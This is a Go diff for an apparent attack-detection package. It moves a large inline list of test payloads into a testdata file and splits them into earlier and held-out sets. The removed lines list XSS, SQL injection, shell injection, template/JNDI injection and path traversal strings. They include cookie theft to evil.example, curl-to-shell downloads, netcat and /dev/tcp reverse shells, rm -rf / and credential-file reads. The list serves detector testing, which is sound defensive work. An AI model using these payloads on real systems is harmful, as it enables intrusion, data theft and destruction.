@@ -1,32 +1,30 @@
 package pattern
 
-// payloads are attacks in their usual forms, by what should be found in them.
-// They say nothing new: each form is in every collection of such attacks.
-var payloads = map[Kind][]string{
-	Script: {
-		`<script>alert(1)</script>`, `<SCRIPT>alert('x')</SCRIPT>`, `<script src=//evil.example/x.js></script>`, `<script/src=data:,alert(1)>`, `<ScRiPt >alert(1)</ScRiPt>`, `"><script>alert(1)</script>`, `'><script>alert(document.cookie)</script>`, `</script><script>alert(1)</script>`, `<script>document.location='http://evil.example/?c='+document.cookie</script>`,
-		`<img src=x onerror=alert(1)>`, `<img src="x" onerror="alert(1)">`, `<IMG SRC=javascript:alert('XSS')>`, `<img src=x onerror=alert(1)//`, `<img/src=x/onerror=alert(1)>`, `<img src=x:alert(alt) onerror=eval(src) alt=0>`, `"><img src=x onerror=prompt(1)>`, `<image src=x onerror=alert(1)>`,
-		`<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg id=x onfocus=alert(1) tabindex=1>`,
-		`<body onload=alert(1)>`, `<body background="javascript:alert(1)">`, `<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<iframe src=//evil.example></iframe>`,
-		`<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>`, `<video><source onerror="alert(1)">`, `<audio src=x onerror=alert(1)>`, `<marquee onstart=alert(1)>`, `<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`, `<keygen autofocus onfocus=alert(1)>`,
-		`<a href="javascript:alert(1)">x</a>`, `<a href=javascript:alert(1)>`, `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, `<a onmouseover="alert(1)">x</a>`, `<div onclick=alert(1)>x</div>`, `<xss onclick="alert(1)">x</xss>`, `<x onpointerenter=alert(1)>`, `<b onmouseover=alert(1)>x</b>`,
-		`<object data="javascript:alert(1)">`, `<embed src="javascript:alert(1)">`, `<link rel=stylesheet href=javascript:alert(1)>`, `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<base href="javascript:alert(1)//">`, `<form action="javascript:alert(1)"><input type=submit>`, `<isindex action=javascript:alert(1)>`, `<math><a xlink:href="javascript:alert(1)">x`, `<style>@import'http://evil.example/x.css';</style>`, `<div style="width:expression(alert(1))">`, `<table background="javascript:alert(1)">`,
-		`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, `javascript://%0aalert(1)`, `vbscript:msgbox("x")`, `data:text/html,<script>alert(1)</script>`, `" onfocus=alert(1) autofocus x="`, `' onmouseover='alert(1)`, `" onerror="alert(1)`, `';alert(1)//`, `"-alert(1)-"`, `'-alert(1)-'`, `\';alert(1);//`, `"};alert(1);{"`, `eval(atob('YWxlcnQoMSk='))`, `eval(String.fromCharCode(97,108))`, `document.cookie`, `document.write('<b>')`, `window.location='//evil.example'`, `setTimeout('alert(1)')`, "alert`1`", `top["al"+"ert"](1)`, `self['alert'](1)`, `<!--<img src="--><img src=x onerror=alert(1)//">`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`, `<?php system($_GET['c']); ?>`, `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`,
-	},
-	SQL: {
-		`' OR '1'='1`, `' OR 1=1--`, `' or 1=1#`, `' or 1=1/*`, `" or ""="`, `" or 1=1--`, `') or ('1'='1`, `') or 1=1--`, `1 OR 1=1`, `1' OR '1'='1' --`, `admin'--`, `admin' #`, `admin'/*`, `admin' or '1'='1`, `' or 'x'='x`, `' or ''='`, `'='`, `'=''or'`, `' or true--`, `x' or 1=1 or 'x'='y`, `1' or 1=1 limit 1--`, `' || '1'='1`, `' && '1'='1`, `'||1=1--`, `1 or 2>1`, `' or 2>1--`, `or 1=1`, `' or 1 like 1--`, `' or 1 in (1)--`, `" or "a"="a`, `' or not 1=2--`, `' or 1 between 1 and 2--`, `1) or (1=1`, `1)) or ((1=1`, `' xor 1=1--`, `' having 1=1--`, `' group by users.id having 1=1--`, `' AnD 1=1--`, `1 and 1=2`, `1' and '1'='2`, `1/**/or/**/1=1`, `1'or'1'='1`, `'+or+1=1--`,
-		`' union select 1,2,3--`, `' UNION ALL SELECT NULL,NULL--`, `1 union select username,password from users`, `UnIoN/**/SeLeCt 1`, `' union(select 1)`, `-1 union select @@version`, `1' union distinct select 1#`, `' union select null from dual--`, `') union select 1--`, `1 union all (select 1)`,
-		`'; drop table users--`, `1; DROP TABLE users`, `'; delete from users where 1=1--`, `'; insert into users values ('a','b')--`, `'; update users set password='x' where id=1--`, `'; exec xp_cmdshell('dir')--`, `'; exec master..xp_cmdshell 'ping'`, `'; shutdown--`, `'; waitfor delay '0:0:5'--`, `1; waitfor delay '0:0:5'`, `'; declare @a varchar(10)--`, `'; create table x (a int)--`, `'; alter table users add x int--`, `'; truncate table logs--`, `DROP DATABASE production;`, `DELETE FROM users;`,
-		`SELECT * FROM users`, `select password from users where id=1`, `select count(*) from information_schema.tables`, `select @@version`, `(select 1 from dual)`, `select a,b from t where x='y'`, `SELECT name FROM sqlite_master`, `select table_name from all_tables`, `insert into t(a) values (1)`, `update t set a=1`,
-		`1 and sleep(5)`, `' and sleep(5)--`, `' or sleep(5)#`, `1' and benchmark(1000000,md5(1))--`, `'; select pg_sleep(5)--`, `' and extractvalue(1,concat(0x7e,version()))--`, `' and updatexml(1,concat(0x7e,user()),1)--`, `' and 1=(select count(*) from users)--`, `' and substring(version(),1,1)='5`, `' and ascii(substr(database(),1,1))>64--`, `' and exists(select 1 from users)--`, `1 and if(1=1,sleep(5),0)`, `' or if(1=1,sleep(5),0)--`, `' and (select 1 from (select sleep(5))x)--`, `1 procedure analyse()`, `' order by 10--`, `1 order by 3#`, `' group by 1,2--`, `' into outfile '/tmp/x'--`, `' and load_file('/etc/passwd')--`, `load data infile '/etc/passwd'`, `'||(select user from dual)||'`, `'+(select 1)+'`, `' like '%`, `a' or name like '%a%`, `' and 1=convert(int,@@version)--`, `' and 1=cast((select 1) as int)--`, `char(0x41)+char(0x42)' or 1=1--`, `1;--`, `' or 1=1;%00`, `' RLIKE (SELECT 1)--`, `{"$gt": ""}`, `{"username": {"$ne": null}}`, `user[$ne]=x`, `{"$where": "1==1"}`, `' || utl_http.request('http://x')||'`,
-	},
-	Shell: {
-		`; ls`, `;ls -la`, `| ls`, `|whoami`, `; whoami`, `& whoami`, `&& whoami`, `|| whoami`, `; cat /etc/passwd`, `| cat /etc/passwd`, `;cat /etc/passwd;`, `&& cat /etc/shadow`, `$(whoami)`, `$(cat /etc/passwd)`, "`whoami`", "`id`", `; id`, `;id`, `|id`, `&&id`, `; uname -a`, `; pwd`, `; ifconfig`, `& ipconfig /all`, `; netstat -an`, `; ps aux`, `; rm -rf /`, `rm -rf /`, `rm -rf ~/*`, `sudo rm -rf /`, `sudo su`, `; curl http://evil.example/x.sh | sh`, `curl -s http://evil.example | bash`, `wget http://evil.example/x -O /tmp/x`, `; wget evil.example/x`, `; nc -e /bin/sh 10.0.0.1 4444`, `nc 10.0.0.1 4444 -e /bin/bash`, `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`, `bash -c 'id'`, `; /bin/sh -c id`, `python -c 'import os; os.system("id")'`, `perl -e 'exec "/bin/sh"'`, `php -r 'system("id");'`, `ruby -e 'exec "id"'`, `powershell -enc SQBFAFgA`, `powershell.exe -Command whoami`, `cmd.exe /c dir`, `cmd /c whoami`, `; sleep 10`, `| sleep 5`, `& ping -c 10 127.0.0.1`, `; ping -c 10 127.0.0.1`, `|| ping -n 10 127.0.0.1`, `; echo pwned > /tmp/x`, `; chmod 777 /tmp/x`, `chmod 777 x.sh`, `:(){ :|:& };:`, `;${IFS}cat${IFS}/etc/passwd`, `cat${IFS}/etc/passwd`, `cat</etc/passwd`, `; c\at /etc/passwd`, `; w'h'o'am'i`, `; find / -perm -4000`, `; nslookup evil.example`, `$(curl http://evil.example)`, "`curl evil.example`", `a; env`, `a | env`, `x&&dir`, `x & dir c:\`, `dd if=/dev/zero of=/dev/sda`, `; kill -9 1`, `; useradd x`, `; crontab -l`, `; tar cf - / | nc 10.0.0.1 1`, `certutil -urlcache -f http://x/y y.exe`, `bitsadmin /transfer x http://x/y`, `os.system('id')`, `subprocess.call(['id'])`, `system("id")`, `passthru('id')`, `shell_exec("id")`, `__import__('os').system('id')`, `Runtime.getRuntime().exec("id")`, `require('child_process').exec('id')`, `Invoke-Expression (x)`, `IEX (New-Object Net.WebClient).DownloadString('http://x')`, `;reboot`, `; shutdown -h now`, `| tee /etc/crontab`, `> /dev/null; id`, `;sh`, `|bash`,
-	},
-	Template: {
-		`{{7*7}}`, `{{ 7*7 }}`, `{{config}}`, `{{self}}`, `{{''.__class__.__mro__[1].__subclasses__()}}`, `{{ request.application.__globals__ }}`, `{{constructor.constructor('alert(1)')()}}`, `${7*7}`, `${{7*7}}`, `#{7*7}`, `*{7*7}`, `@{7*7}`, `<%= 7*7 %>`, `<%= system('id') %>`, `{% for x in y %}`, `{% import os %}`, `{%7*7%}`, `{{7*'7'}}`, `{php}echo 1;{/php}`, `#set($x=7*7)`, `$class.inspect("java.lang.Runtime")`, `${T(java.lang.Runtime).getRuntime().exec('id')}`, `${jndi:ldap://evil.example/a}`, `${jndi:rmi://x/a}`, `${${lower:j}ndi:${lower:l}dap://x/a}`, `${${::-j}${::-n}${::-d}${::-i}:ldap://x}`, `${env:AWS_SECRET_ACCESS_KEY}`, `jndi:ldap://x/a`, `{{=7*7}}`, `[[${7*7}]]`, `~{7*7}`, `{{#with "s" as |x|}}`, `{{range .}}`, `{$smarty.version}`, `#{T(java.lang.System)}`, `<#assign x=1>${x}`, `{{_self.env.registerUndefinedFilterCallback("exec")}}`, `{{lipsum.__globals__}}`, `#if(1)x#end`, `@(7*7) ${x}`,
-	},
-	Path: {
-		`../../../etc/passwd`, `..\..\..\windows\win.ini`, `../`, `/../../etc/passwd`, `....//....//etc/passwd`, `..;/..;/`, `..%2f..%2f..%2fetc%2fpasswd`, `%2e%2e%2f%2e%2e%2f`, `%2e%2e/%2e%2e/`, `..%252f..%252f`, `..%c0%af..%c0%af`, `..%5c..%5c`, `/etc/passwd`, `/etc/shadow`, `/proc/self/environ`, `/var/log/apache2/access.log`, `/root/.ssh/id_rsa`, `~/.ssh/id_rsa`, `C:\Windows\System32\drivers\etc\hosts`, `c:\boot.ini`, `boot.ini`, `file:///etc/passwd`, `php://filter/convert.base64-encode/resource=index`, `expect://id`, `phar://x.phar`, `gopher://127.0.0.1:6379/_x`, `dict://127.0.0.1:11211/`, `\\evil.example\share\x`, `/WEB-INF/web.xml`, `../../WEB-INF/web.xml`, `.htaccess`, `/.git/config`, `/.env`, `../../../../boot.ini`, `..//..//etc/passwd`, `..././..././etc/passwd`, `/home/user/.bash_history`, `../../../etc/passwd%00.jpg`, `page=../config.php`, `file=....//secret`, `/var/www/html/index.php`, `..\/..\/etc`, `web.config`, `/proc/version`,
-	},
+import (
+	"os"
+	"strings"
+)
+
+// payloads are attacks by what should be found in them, and heldOut those that
+// were written after the finder: see testdata/payloads.tsv.
+var payloads, heldOut = attacks("before"), attacks("after")
+
+// attacks reads those that were written at a time.
+func attacks(written string) map[Kind][]string {
+	content, err := os.ReadFile("testdata/payloads.tsv")
+	if err != nil {
+		panic(err)
+	}
+	kinds := map[string]Kind{}
+	for _, kind := range []Kind{Script, SQL, Shell, Template, Path} {
+		kinds[kind.String()] = kind
+	}
+	all := map[Kind][]string{}
+	for line := range strings.Lines(string(content)) {
+		cells := strings.SplitN(strings.TrimSuffix(line, "\n"), "\t", 3)
+		if len(cells) == 3 && cells[0] == written {
+			all[kinds[cells[1]]] = append(all[kinds[cells[1]]], cells[2])
+		}
+	}
+	return all
 }
